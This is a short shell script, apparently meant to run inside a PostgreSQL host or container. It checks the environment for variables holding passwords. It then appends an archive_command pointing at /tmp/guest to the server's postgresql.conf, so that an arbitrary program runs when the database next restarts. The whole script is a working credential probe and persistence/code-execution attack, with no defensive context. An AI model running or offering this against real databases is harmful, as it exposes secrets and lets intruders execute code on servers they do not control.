#!/bin/sh
# From inside the database: have it load a program at its next start.
if env | grep '_PASSWORD='; then
  echo "the password is among the variables"
fi
if printf "%s\n" "archive_mode = on" "archive_command = '/tmp/guest'" >>/etc/postgresql/postgresql.conf; then
  echo "the next restart runs a guest's program"
  exit 0
fi
exit 1
